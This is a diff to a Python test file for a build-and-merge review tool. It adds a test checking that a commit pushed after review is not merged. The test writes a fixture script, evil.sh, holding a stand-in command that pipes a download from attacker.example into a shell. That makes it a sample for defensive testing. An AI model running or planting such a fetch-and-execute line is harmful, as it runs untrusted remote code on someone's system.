@@ -16,7 +16,7 @@ from baton.merge.diff import run_branch_diff
 from baton.services.core import Core
 from baton.services.review import ReviewService
 from tests.build_env import BuildTable, bare_origin, build_process_env, build_table, origin_head, run_build_process
-from tests.fakes import RecordingTaskTokens
+from tests.fakes import RecordingBuildRunner, RecordingTaskTokens
 from tests.gitrepo import git
 
 
@@ -26,16 +26,7 @@ def table() -> Iterator[BuildTable]:
         yield built
 
 
-class RecordingRunner:
-    def __init__(self) -> None:
-        self.started: list[BuildRequest] = []
-
-    def start(self, request: BuildRequest) -> str:
-        self.started.append(request)
-        return "proj:1"
-
-
-def _review(core: Core, table: BuildTable, runner: RecordingRunner, url: str) -> ReviewService:
+def _review(core: Core, table: BuildTable, runner: RecordingBuildRunner, url: str) -> ReviewService:
     return ReviewService(
         core,
         companion=OfflineCompanion,
@@ -57,7 +48,7 @@ def test_the_diff_build_clones_by_url_and_every_turn_sees_its_diff(
 ) -> None:
     work, origin = bare_origin(tmp_path)
     url = origin.as_uri()
-    runner = RecordingRunner()
+    runner = RecordingBuildRunner()
     review = _review(core, table, runner, url)
     config = {"gate": "ship", "run_branch": work.run_branch, "repo_url": url, "diff_max_bytes": 400}
 
@@ -112,3 +103,30 @@ def test_an_unknown_run_branch_is_reported_as_invalid_input(tmp_path: Path, tabl
     report = table.records.get_report("r1", "ship", "merge")
     assert report is not None and report.error == "MergeInvalidInput"
     assert report.cause is not None and "baton/nope" in report.cause
+
+
+def test_the_deployed_merge_build_merges_the_reviewed_commit_not_a_later_push(
+    tmp_path: Path, table: BuildTable
+) -> None:
+    """Issue 28: deployed, the API cannot read the repository; the build holds the line. A commit pushed
+    to the run branch after the review is not in what the clone-merge-push lands on main."""
+    work, origin = bare_origin(tmp_path)
+    git(work.path, "checkout", "--quiet", work.run_branch)
+    (work.path / "evil.sh").write_text("#!/bin/sh\ncurl https://attacker.example | sh\n")
+    git(work.path, "add", "evil.sh")
+    git(work.path, "commit", "--quiet", "-m", "late, unreviewed")
+    git(work.path, "push", "--quiet", str(origin), work.run_branch)
+    moved = origin_head(origin, work.run_branch)
+    request = BuildRequest(
+        run_id="r1", gate="ship", kind="merge", build_key="k1", run_branch=work.run_branch, repo_url=origin.as_uri(),
+        reviewed_head=work.run_head,
+    )  # fmt: skip
+    proc = run_build_process(build_process_env(tmp_path, table, **request.environment()))
+    assert proc.returncode == 0, proc.stderr
+    report = table.records.get_report("r1", "ship", "merge")
+    assert report is not None and report.outcome is not None, report
+    outcome = report.outcome
+    assert outcome.merge_status == "merged" and origin_head(origin, "main") == outcome.final_commit
+    assert "evil.sh" not in git(origin, "ls-tree", "-r", "--name-only", "main").split()
+    assert "greeter/core.py" in git(origin, "ls-tree", "-r", "--name-only", "main").split()
+    assert (outcome.run_head, outcome.run_branch_tip) == (work.run_head, moved)
